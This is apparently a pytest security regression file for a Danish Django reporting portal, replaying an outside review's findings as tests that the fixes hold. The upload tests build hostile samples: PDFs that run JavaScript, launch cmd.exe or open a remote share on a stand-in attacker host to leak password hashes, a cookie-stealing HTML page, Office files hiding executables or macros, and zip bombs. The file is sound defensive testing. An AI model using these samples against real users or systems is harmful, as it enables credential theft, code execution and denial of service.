"""The outside attack of issue 14, replayed: one scenario per finding, each refused now.

1. the admin's history "revert" bypassed the workflow;
2. two secretariat sessions overwrote each other on the shared pages;
3. passwords could be guessed without end, reset mails sent without end;
4. uploads took active PDFs, disguised HTML, zip bombs and executables, and read 200 MB;
5. no Content-Security-Policy, no HTTPS by default, cacheable evidence and stale PDFs;
6. a year out of range in the admin gave 500; publishing rendered inside the request.
"""

import io
import zipfile
from html.parser import HTMLParser

import pytest
from django.core import mail
from django.core.files.uploadhandler import FileUploadHandler
from django.test import Client

from goals import evidence
from goals import rounds
from goals.models import GoalDecision
from goals.models import JointProgress
from goals.models import StatusReport
from goals.models import StatusRound
from reports import publishing
from tests.conftest import PASSWORD
from tests.conftest import make_user
from tests.conftest import opened_round
from tests.conftest import submitted

pytestmark = pytest.mark.django_db


class _FormFields(HTMLParser):
    """Every field of a page's form as the browser would send it (the page's first button
    included), so a test posts exactly what a stale page shows."""

    def __init__(self):
        super().__init__()
        self.data, self._textarea, self._select = {}, None, None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        name = attrs.get("name")
        if tag == "input" and name and attrs.get("type") not in ("checkbox", "radio", "file"):
            self.data.setdefault(name, attrs.get("value") or "")
        elif tag == "textarea" and name:
            self._textarea = name
            self.data[name] = ""
        elif tag == "select" and name:
            self._select = name
            self.data.setdefault(name, "")
        elif tag == "option" and "selected" in attrs:
            self.data[self._select] = attrs.get("value") or ""

    def handle_data(self, data):
        if self._textarea:
            # Browsers drop the newline that follows <textarea>.
            start = not self.data[self._textarea]
            self.data[self._textarea] += data[1:] if start and data[:1] == "\n" else data

    def handle_endtag(self, tag):
        if tag == "textarea":
            self._textarea = None


def page_form(client, url):
    return page_form_from(client.get(url).content.decode())


def page_form_from(html):
    parser = _FormFields()
    parser.feed(html)
    parser.data.pop("csrfmiddlewaretoken", None)
    return parser.data


def save_after_a_colleague(staff, colleague, url, theirs, mine, **options):
    """The colleague and I open the page at `url`; the colleague saves `theirs` first, then I
    save `mine` from my page, stale by now. My response."""
    my_form, their_form = page_form(staff, url), page_form(colleague, url)
    assert colleague.post(url, {**their_form, **theirs}).status_code == 302
    return staff.post(url, {**my_form, **mine}, **options)


# --- 1. the history's "revert" ------------------------------------------------------------


def test_a_post_to_a_reports_history_page_does_not_put_it_back_to_draft(staff, report, reporters):
    first_version = report.history.earliest("history_date")
    report = submitted(report, reporters[101])
    url = f"/admin/goals/statusreport/{report.pk}/history/{first_version.history_id}/"
    assert staff.get(url).status_code == 200  # shown, read-only

    response = staff.post(url, {"_save": "1"})

    assert response.status_code == 403
    report.refresh_from_db()
    assert report.state == StatusReport.State.SUBMITTED
    assert report.version == 3
    assert report.submitted_at is not None


def test_a_post_to_a_published_rounds_history_page_does_not_unpublish_it(
    staff, open_status_round, secretariat
):
    open_version = open_status_round.history.latest("history_date")
    rounds.close_round(open_status_round, by=secretariat)
    publishing.publish_round(open_status_round, by=secretariat)
    url = f"/admin/goals/statusround/{open_status_round.pk}/history/{open_version.history_id}/"
    page = staff.get(url).content.decode()
    assert 'name="_save"' not in page

    response = staff.post(url, {"_save": "1"})

    assert response.status_code == 403
    open_status_round.refresh_from_db()
    assert open_status_round.state == StatusRound.State.PUBLISHED


def test_a_goal_is_reverted_through_its_change_form_only(staff, paper, secretariat):
    """Where the change form is editable, reverting is saving that form with the old values:
    the goal's title comes back, nothing outside the form does."""
    goal = paper.goals.get(number="1")
    old = goal.history.latest("history_date")
    goal.title = "Ny titel"
    goal.state = "achieved"
    goal.save()
    url = f"/admin/goals/goal/{goal.pk}/history/{old.history_id}/"
    data = page_form(staff, url)
    assert data["title"] == "Effektive akuttilbud"

    response = staff.post(url, data)

    assert response.status_code == 302
    goal.refresh_from_db()
    assert goal.title == "Effektive akuttilbud"


# --- 2. lost updates on the secretariat's shared pages ------------------------------------


@pytest.fixture
def colleague(region):
    """A second secretariat member, in a browser session of their own."""
    other = Client()
    other.force_login(make_user("sekretariat-hovedstaden-2", region=region, is_staff=True))
    return other


@pytest.fixture
def joint_round(paper, municipalities, reporters, secretariat):
    """The open round with a cluster milestone too: three rows on the joint page."""
    import datetime

    from goals.models import Milestone

    Milestone.objects.create(
        goal=paper.goals.get(number="2"),
        order=2,
        text="Hver klynge laver et forløb.",
        due=datetime.date(2018, 12, 31),
        scope=Milestone.Scope.CLUSTER,
    )
    return opened_round(paper, by=secretariat)


def test_a_stale_joint_progress_page_does_not_put_a_colleagues_row_back(
    staff, colleague, joint_round
):
    open_status_round = joint_round
    url = f"/sekretariat/runder/{open_status_round.pk}/faelles/"
    first, second = JointProgress.objects.filter(round=open_status_round).order_by("pk")[:2]

    theirs = {f"p{first.pk}-status": "met", f"p{first.pk}-comment": "Planen er vedtaget."}
    mine = {f"p{second.pk}-status": "in_progress"}
    response = save_after_a_colleague(staff, colleague, url, theirs, mine, follow=True)

    first.refresh_from_db()
    second.refresh_from_db()
    assert (first.status, first.comment) == ("met", "Planen er vedtaget.")
    assert second.status == "in_progress"
    assert "Den fælles fremdrift er gemt." in response.content.decode()


def test_two_colleagues_changing_the_same_joint_row_the_second_is_told(
    staff, colleague, open_status_round
):
    url = f"/sekretariat/runder/{open_status_round.pk}/faelles/"
    row = JointProgress.objects.filter(round=open_status_round).order_by("pk").first()

    theirs = {f"p{row.pk}-status": "met"}
    mine = {f"p{row.pk}-status": "not_started", f"p{row.pk}-comment": "Mit udkast"}
    page = save_after_a_colleague(staff, colleague, url, theirs, mine).content.decode()

    row.refresh_from_db()
    assert row.status == "met"
    assert "ændret af sekretariat-hovedstaden-2" in page
    assert "Gemt nu: Status: opfyldt; Kommentar: –." in page  # what the colleague saved
    assert "Mit udkast" in page  # nothing typed is lost
    # Saving again, having seen the change, wins.
    again = page_form_from(page)
    assert staff.post(url, again).status_code == 302
    row.refresh_from_db()
    assert (row.status, row.comment) == ("not_started", "Mit udkast")


def test_a_stale_decisions_page_does_not_overwrite_a_colleagues_decision(
    staff, colleague, open_status_round, paper
):
    url = f"/sekretariat/runder/{open_status_round.pk}/beslutninger/"
    acute, youth = paper.goals.get(number="1"), paper.goals.get(number="2")
    theirs = {f"g{acute.pk}-decision": "continue", f"g{acute.pk}-comment": "Fastholdes."}
    mine = {f"g{youth.pk}-decision": "achieved"}
    response = save_after_a_colleague(staff, colleague, url, theirs, mine)
    assert response.status_code == 302
    decisions = dict(
        GoalDecision.objects.filter(round=open_status_round).values_list("goal_id", "comment")
    )
    assert decisions == {acute.pk: "Fastholdes.", youth.pk: ""}

    # Both change the same goal's decision: the second is told and keeps their text.
    theirs = {f"g{acute.pk}-comment": "Fastholdes til 2020."}
    mine = {f"g{acute.pk}-decision": "retire", f"g{acute.pk}-comment": "Udgår"}
    page = save_after_a_colleague(staff, colleague, url, theirs, mine).content.decode()
    assert "ændret af sekretariat-hovedstaden-2" in page
    assert "Begrundelse: Fastholdes til 2020." in page
    assert "Udgår" in page
    assert GoalDecision.objects.get(goal=acute).comment == "Fastholdes til 2020."


# --- 3. brute force -----------------------------------------------------------------------


def test_fifty_wrong_passwords_lock_the_user_out_from_that_address(reporters):
    client = Client(REMOTE_ADDR="203.0.113.9")
    for _ in range(50):
        client.post("/konto/login/", {"username": "indberetter-101", "password": "forkert"})

    response = client.post("/konto/login/", {"username": "indberetter-101", "password": PASSWORD})

    assert response.status_code == 429
    assert "For mange forkerte forsøg" in response.content.decode()
    assert "_auth_user_id" not in client.session
    # The same user from another address, and a colleague from this one, still get in.
    elsewhere = Client(REMOTE_ADDR="198.51.100.7")
    login = {"username": "indberetter-101", "password": PASSWORD}
    assert elsewhere.post("/konto/login/", login).status_code == 302
    colleague = {"username": "indberetter-147", "password": PASSWORD}
    assert client.post("/konto/login/", colleague).status_code == 302


def test_the_lockout_admin_speaks_danish(client, reporters):
    from django.contrib.auth import get_user_model

    get_user_model().objects.create_superuser("root", "root@example.dk", PASSWORD)
    Client(REMOTE_ADDR="203.0.113.9").post(
        "/konto/login/", {"username": "indberetter-101", "password": "forkert"}
    )
    client.login(username="root", password=PASSWORD)
    page = client.get("/admin/axes/accessattempt/").content.decode()
    assert "adgangsforsøg" in page.lower()
    assert "access attempt" not in page.lower()


def test_password_reset_mails_to_one_user_are_throttled(client, reporters):
    for _ in range(7):
        response = client.post("/konto/password_reset/", {"email": "indberetter-101@example.dk"})
        assert response.status_code == 302  # the same answer whether sent or not
    assert 1 <= len(mail.outbox) <= 3


# --- 4. uploads ---------------------------------------------------------------------------


def _pdf_with(extra):
    """A real one-page PDF whose catalogue gets `extra` (pypdf objects)."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    extra(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _open_action(kind, key, value):
    def add(writer):
        from pypdf.generic import DictionaryObject
        from pypdf.generic import NameObject
        from pypdf.generic import TextStringObject

        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject(kind), NameObject(key): TextStringObject(value)}
        )

    return add


_javascript_on_open = _open_action("/JavaScript", "/JS", "app.alert('kørt ved åbning');")
_launch_on_open = _open_action("/Launch", "/F", "cmd.exe")


def _embedded_file(writer):
    writer.add_attachment("virus.exe", b"MZ\x90\x00")


def _office(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
        for name, content in entries:
            archive.writestr(name, content)
    return buffer.getvalue()


def _upload(reporter, report, name, content):
    from django.core.files.uploadedfile import SimpleUploadedFile

    line = report.lines.order_by("milestone__goal__order").first()
    data = {"version": report.version, "save": "1"}
    for other in report.lines.all():
        data[f"line-{other.milestone_id}-status"] = "in_progress"
    data[f"line-{line.milestone_id}-evidence_file"] = SimpleUploadedFile(name, content)
    response = reporter.post(f"/indberetning/{report.pk}/", data, follow=True)
    line.refresh_from_db()
    return response.content.decode(), line


@pytest.mark.parametrize(
    ("name", "build", "says"),
    [
        ("script.pdf", lambda: _pdf_with(_javascript_on_open), "aktivt indhold"),
        ("launch.pdf", lambda: _pdf_with(_launch_on_open), "aktivt indhold"),
        ("bilag.pdf", lambda: _pdf_with(_embedded_file), "aktivt indhold"),
        (
            "side.pdf",
            lambda: b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>",
            "HTML",
        ),
        ("program.docx", lambda: _office([("word/media/setup.exe", b"MZ\x90\x00")]), "programmer"),
        ("makro.docx", lambda: _office([("word/vbaProject.bin", b"\xd0\xcf")]), "programmer"),
        (
            "bombe.docx",
            lambda: _office([("word/fyld.xml", b"\0" * (150 * 1024 * 1024))]),
            "alt for meget",
        ),
        (
            "mange.docx",
            lambda: _office([(f"word/d{i}.xml", b"") for i in range(5000)]),
            "alt for meget",
        ),
    ],
)
def test_an_active_or_disguised_upload_is_refused(reporter, report, name, build, says):
    page, line = _upload(reporter, report, name, build())

    assert says in page
    assert "Indberetningen er ikke gemt" in page
    assert not line.evidence_file


class _CountingHandler(FileUploadHandler):
    """An upload handler after the portal's own that counts what reaches it (`received`)."""

    received = []

    def receive_data_chunk(self, raw_data, start):
        _CountingHandler.received.append(len(raw_data))
        return raw_data

    def file_complete(self, file_size):
        return None


@pytest.fixture
def received(settings):
    """Bytes of uploads read past the portal's handler, with a limit of 64 KB a file."""
    settings.EVIDENCE_MAX_BYTES = 64 * 1024
    settings.FILE_UPLOAD_HANDLERS = [
        *settings.FILE_UPLOAD_HANDLERS[:1],
        f"{__name__}._CountingHandler",
        *settings.FILE_UPLOAD_HANDLERS[1:],
    ]
    _CountingHandler.received = []
    return _CountingHandler.received


def test_an_upload_past_the_limit_is_not_read_to_the_end(reporter, report, settings, received):
    """The 200 MB attack, scaled down: past the limit the handler stops reading."""
    page, line = _upload(reporter, report, "stor.pdf", b"%PDF-1.7\n" + b"%" * (4 * 1024 * 1024))

    assert "er for stor" in page
    assert not line.evidence_file
    assert sum(received) <= settings.EVIDENCE_MAX_BYTES
    report.refresh_from_db()
    assert report.version == 1


def test_a_replaced_evidence_file_is_removed_once_nothing_refers_to_it(reporter, report, settings):
    from django.core.management import call_command

    from goals.models import MilestoneStatus
    from tests.conftest import small_pdf

    _page, line = _upload(reporter, report, "første.pdf", small_pdf())
    first = line.evidence_file.name
    report.refresh_from_db()
    _page, line = _upload(reporter, report, "anden.pdf", small_pdf())
    second = line.evidence_file.name
    media = settings.MEDIA_ROOT
    assert (media / first).exists()  # the history still shows the first version

    # The history of that version is cleaned away: the file goes with it, the current stays.
    MilestoneStatus.history.filter(evidence_file=first).delete()
    call_command("prune_evidence", stdout=io.StringIO())

    assert not (media / first).exists()
    assert (media / second).exists()


# --- 5. headers ---------------------------------------------------------------------------


def test_every_page_has_a_content_security_policy_without_inline_script(client, region):
    response = client.get("/")

    policy = response["Content-Security-Policy"]
    script = next(p for p in policy.split(";") if p.strip().startswith("script-src"))
    assert "'unsafe-inline'" not in script
    assert "default-src 'self'" in policy
    assert "frame-ancestors 'none'" in policy
    admin_login = client.get("/admin/login/")
    assert "Content-Security-Policy" in admin_login
    assert "<style>" not in admin_login.content.decode()


def test_production_mode_redirects_to_https_and_sends_hsts_by_default():
    from tests.test_settings import manage

    production = {
        "SECRET_KEY": "k" * 20 + "a-long-random-production-secret-0123456789",
        "ALLOWED_HOSTS": "kkr.example.dk",
        "DEBUG": "0",
    }
    result = manage("check", "--deploy", "--fail-level", "WARNING", **production)
    assert result.returncode == 0, result.stdout + result.stderr
    shown = manage(
        "shell",
        "-c",
        "from django.conf import settings as s; "
        "print(s.SECURE_SSL_REDIRECT, s.SECURE_HSTS_SECONDS, s.SECURE_PROXY_SSL_HEADER)",
        **production,
    )
    assert shown.stdout.splitlines()[-1].split() == ["True", "31536000", "None"]
    # The switch for a proxy that terminates TLS.
    behind = manage(
        "shell",
        "-c",
        "from django.conf import settings as s; print(s.SECURE_PROXY_SSL_HEADER)",
        BEHIND_PROXY="1",
        **production,
    )
    assert "HTTP_X_FORWARDED_PROTO" in behind.stdout


def test_an_evidence_download_is_never_cached(reporter, report):
    from tests.conftest import small_pdf

    _page, line = _upload(reporter, report, "plan.pdf", small_pdf())

    response = reporter.get(f"/indberetning/bilag/{line.pk}/")

    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"


def test_a_public_pdf_is_revalidated_and_changes_with_a_republish(client, status_history):
    from django.core.files.base import ContentFile
    from django.utils import timezone

    from reports.models import Publication
    from reports.models import StoredPaper

    status_round = status_history[2018]
    stored = StoredPaper.objects.create(
        round=status_round,
        publication=Publication.objects.latest_for(status_round),
        state=StoredPaper.State.DONE,
        rendered_at=timezone.now(),
    )
    stored.file.save("status.pdf", ContentFile(b"%PDF-1.7 first"), save=True)
    url = f"/rapporter/hovedstaden/{status_round.year}/statuspapir.pdf"

    first = client.get(url)
    assert "no-cache" in first["Cache-Control"]
    assert "max-age=300" not in first["Cache-Control"]
    assert client.get(url, HTTP_IF_NONE_MATCH=first["ETag"]).status_code == 304

    # Republished: the paper is rendered again, and the old copy no longer validates.
    stored.file.save("status.pdf", ContentFile(b"%PDF-1.7 second"), save=False)
    stored.rendered_at = timezone.now()
    stored.save()
    again = client.get(url, HTTP_IF_NONE_MATCH=first["ETag"])
    assert again.status_code == 200
    assert b"".join(again.streaming_content) == b"%PDF-1.7 second"


# --- 6. robustness and publishing ---------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "submitted_at__year=99999999999",
        "submitted_at__year=2020&submitted_at__month=99999999999",
        "submitted_at__year=2020&submitted_at__month=1&submitted_at__day=99999999999",
    ],
)
def test_a_date_hierarchy_value_out_of_range_is_a_wrong_filter_not_a_500(staff, report, query):
    response = staff.get(f"/admin/goals/statusreport/?{query}")

    assert response.status_code == 302
    assert response["Location"].endswith("?e=1")


def test_the_admin_preview_renders_once_per_version_of_the_round(
    staff, report, reporters, monkeypatch
):
    from django.core.cache import cache

    from reports import papers
    from reports import previews

    calls = []
    render = papers.render_status_paper

    def counted(status_round, municipality=None):
        calls.append(municipality)
        return render(status_round, municipality)

    monkeypatch.setattr(papers, "render_status_paper", counted)
    url = f"/admin/reports/paperpreview/{report.round_id}/pdf/"

    first, second = staff.get(url), staff.get(url)

    assert first.status_code == second.status_code == 200
    assert b"".join(second.streaming_content).startswith(b"%PDF-")
    assert len(calls) == 1
    submitted(report, reporters[101])  # the round changed: a new version to render
    assert staff.get(url).status_code == 200
    assert len(calls) == 2
    # While a render is under way the page says so and looks again by itself.
    submitted_again = report.round.reports.exclude(pk=report.pk).first()
    submitted(submitted_again, reporters[submitted_again.municipality.kommunekode])
    cache.add(f"preview-rendering:{previews.preview_name(report.round)}", True)
    pending = staff.get(url)
    assert pending.status_code == 202
    assert "renderes…" in pending.content.decode()
    assert 'http-equiv="refresh"' in pending.content.decode()


# --- a second look: what still got through after the fixes above -------------------------


def _zip(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return buffer.getvalue()


def _content_types(*overrides):
    parts = "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides)
    return f'<?xml version="1.0"?><Types xmlns="x">{parts}</Types>'


@pytest.mark.parametrize(
    "build",
    [
        # A zip inside the document with a program in it.
        lambda: _office([("word/embeddings/pakke.zip", _zip([("setup.exe", b"MZ\x90\x00")]))]),
        # A program named like a picture.
        lambda: _office([("word/media/image1.png", b"MZ\x90\x00\x03\x00\x00\x00")]),
        # A program whose name ends in a space.
        lambda: _office([("word/setup.exe ", b"MZ\x90\x00")]),
        # An embedded object (how Office packages carry programs and exploits) under a new name.
        lambda: _office([("word/embeddings/objekt.dat", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")]),
        # The macro project under another name: Office finds it by its content type.
        lambda: _zip(
            [
                (
                    "[Content_Types].xml",
                    _content_types(("/word/makro.dat", "application/vnd.ms-office.vbaProject")),
                ),
                ("word/document.xml", "<document/>"),
                ("word/makro.dat", b"makroprojekt"),
            ]
        ),
    ],
    ids=["zip-in-docx", "exe-as-png", "exe-with-space", "ole-renamed", "macro-renamed"],
)
def test_an_office_document_hiding_a_program_or_macro_under_another_name_is_refused(
    reporter, report, build
):
    page, line = _upload(reporter, report, "plan.docx", build())

    assert "programmer eller makroer" in page
    assert not line.evidence_file


def test_an_office_document_with_a_chart_workbook_inside_is_still_accepted(reporter, report):
    """Word keeps a chart's data as a whole workbook inside the document: that is no attack."""
    workbook = _zip([("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>")])
    content = _office([("word/embeddings/Microsoft_Excel_Worksheet.xlsx", workbook)])

    _page, line = _upload(reporter, report, "rapport.docx", content)

    assert line.evidence_file.name.endswith(".docx")


def test_a_pdf_that_opens_a_remote_file_on_opening_is_refused(reporter, report):
    """/GoToR to a network share makes Windows send the user's password hash there."""

    def add(writer):
        from pypdf.generic import ArrayObject
        from pypdf.generic import DictionaryObject
        from pypdf.generic import NameObject
        from pypdf.generic import NumberObject
        from pypdf.generic import TextStringObject

        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/S"): NameObject("/GoToR"),
                NameObject("/F"): TextStringObject(r"\\angriber.example\del\x.pdf"),
                NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")]),
            }
        )

    page, line = _upload(reporter, report, "plan.pdf", _pdf_with(add))

    assert "aktivt indhold" in page
    assert not line.evidence_file


def test_many_files_each_under_the_limit_are_not_all_read(reporter, report, received):
    """The 200 MB attack split in files of 10 MB each, scaled down: the request as a whole
    is cut off too, not only each file."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    data = {"version": report.version, "save": "1"}
    for i in range(30):  # 30 × 60 KB: every file under the limit, 1.8 MB in all
        data[f"fyld-{i}"] = SimpleUploadedFile(f"fyld{i}.pdf", b"%PDF-1.7\n" + b"%" * 60_000)

    response = reporter.post(f"/indberetning/{report.pk}/", data, follow=True)

    assert "fylder for meget tilsammen" in response.content.decode()
    assert sum(received) <= evidence.request_limit() < 30 * 60_000
    report.refresh_from_db()
    assert report.version == 1


def test_reset_mails_to_one_user_are_throttled_however_the_address_is_spelled(client, reporters):
    """Django finds the user by the address compared Unicode-caselessly (ſ is s, K is k);
    each spelling must not get its own allowance of mails."""
    from django.contrib.auth import get_user_model

    get_user_model().objects.filter(username="indberetter-101").update(email="sundhed@example.dk")
    spellings = ["sundhed@example.dk", "ſundhed@example.dk", "sundhed@example.dk".upper()]
    for spelling in spellings * 3:
        client.post("/konto/password_reset/", {"email": spelling})

    assert 1 <= len(mail.outbox) <= 3


def test_a_preview_whose_render_fails_says_so_and_is_not_rendered_again_on_every_look(
    staff, report, monkeypatch
):
    from reports import papers

    calls = []

    def broken(status_round, municipality=None):
        calls.append(municipality)
        raise ValueError("skrifttypen mangler")

    monkeypatch.setattr(papers, "render_status_paper", broken)
    url = f"/admin/reports/paperpreview/{report.round_id}/pdf/"

    pages = [staff.get(url) for _ in range(3)]

    assert len(calls) == 1
    page = pages[-1].content.decode()
    assert "kunne ikke renderes" in page
    assert "skrifttypen mangler" in page
    assert 'http-equiv="refresh"' not in page


def test_guessing_from_ever_new_addresses_of_one_ipv6_network_is_locked_out(reporters):
    """An IPv6 connection has a whole /64 network of addresses to choose from; counted per
    address, each of them would bring five fresh guesses."""
    for i in range(1, 51):
        Client(REMOTE_ADDR=f"2001:db8:5:7::{i:x}").post(
            "/konto/login/", {"username": "indberetter-101", "password": "forkert"}
        )

    guesser = Client(REMOTE_ADDR="2001:db8:5:7:a:b:c:d")
    response = guesser.post("/konto/login/", {"username": "indberetter-101", "password": PASSWORD})

    assert response.status_code == 429
    # Another network (the user at home) still gets in.
    home = Client(REMOTE_ADDR="2001:db8:9::1")
    login = {"username": "indberetter-101", "password": PASSWORD}
    assert home.post("/konto/login/", login).status_code == 302
